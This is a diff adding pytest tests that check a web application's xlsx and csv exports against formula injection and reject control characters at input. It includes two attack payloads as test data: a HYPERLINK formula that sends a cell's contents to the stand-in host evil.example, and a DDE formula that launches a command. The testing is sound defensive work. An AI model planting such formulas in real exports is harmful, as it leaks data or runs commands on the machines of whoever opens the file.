@@ -154,3 +154,85 @@ def test_the_account_page_lists_and_revokes_tokens(web_sqlite):
 def store_users_tokens(web, username):
     with web.db.session() as s:
         return store_users.list_tokens(s, user_id=web.users[username].id)
+
+
+# -- 3. exports that cannot carry a formula -------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def xlsx_cells(content: bytes) -> list[list[tuple[object, str]]]:
+    """Every cell below the title and header as (value, openpyxl data type: s text, f formula, n number)."""
+    import io
+
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(content)).active
+    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=3)]
+
+
+def csv_lines(content: bytes) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def test_a_progress_report_never_becomes_a_live_formula_in_the_ledger_exports(web):
+    item = web.item("in_progress")
+    unit = web.api("unit_a")
+    answer = unit.post(f"/api/items/{item}/progress", json={"text": FORMULA, "percent": 30,
+                                                              "version": web.version(item)})
+    assert answer.status_code == 200, answer.text
+    office = web.api("office")
+    [row] = xlsx_cells(office.get("/api/exports/ledger", params={"format": "xlsx"}).content)
+    assert (FORMULA, "s") in row and all(kind != "f" for _, kind in row)
+    [_, line] = csv_lines(office.get("/api/exports/ledger", params={"format": "csv"}).content)
+    assert "'" + FORMULA in line and not any(cell.startswith(("=", "+", "-", "@")) for cell in line)
+
+
+def test_a_suggestion_title_never_becomes_a_formula(web):
+    office = web.api("office")
+    assert office.post("/api/suggestions", json={"title": DDE, "deputies": ["张三"]}).status_code == 201
+    [row] = xlsx_cells(office.get("/api/exports/suggestions", params={"format": "xlsx"}).content)
+    assert (DDE, "s") in row and all(kind != "f" for _, kind in row)
+    [_, line] = csv_lines(office.get("/api/exports/suggestions", params={"format": "csv"}).content)
+    assert "'" + DDE in line
+
+
+@pytest.mark.parametrize("text, expected", [("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-5", "'-5"),
+                                            ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+                                            ("正常文字", "正常文字"), ("a\x01b", "ab")])
+def test_csv_cells_follow_owasps_rule(text, expected):
+    from luoshi.textsafety import csv_cell
+
+    assert csv_cell(text) == expected
+
+
+@pytest.mark.parametrize("bad", ["进展\x01顺利", "进展\x0b顺利", "进展\x7f"])
+def test_control_characters_are_refused_at_input(web_sqlite, bad):
+    item = web_sqlite.item("in_progress")
+    answer = web_sqlite.api("unit_a").post(f"/api/items/{item}/progress",
+                                           json={"text": bad, "percent": 30, "version": web_sqlite.version(item)})
+    assert answer.status_code == 422 and "控制字符" in answer.json()["detail"]
+    page = web_sqlite.browser("unit_a")
+    token = csrf_of(page.get(f"/items/{item}").text)
+    form = page.post(f"/items/{item}/progress", data={"csrf_token": token, "text": bad, "percent": "30",
+                                                      "version": str(web_sqlite.version(item))})
+    assert form.status_code == 422
+
+
+def test_a_control_character_already_stored_never_breaks_an_export(web):
+    from luoshi.store.models import ProgressReport
+
+    item = web.item("in_progress")
+    assert web.api("unit_a").post(f"/api/items/{item}/progress", json={
+        "text": "进展顺利", "percent": 30, "version": web.version(item)}).status_code == 200
+    with web.db.session() as s:  # stored before the check existed
+        s.execute(update(ProgressReport).values(text="进展\x01\x0b顺利"))
+        s.commit()
+    office = web.api("office")
+    for fmt in ("xlsx", "csv", "json"):
+        assert office.get("/api/exports/ledger", params={"format": fmt}).status_code == 200
+    assert office.get("/api/exports/bulletin", params={"from": "2020-01-01", "to": "2035-12-31"}).status_code == 200
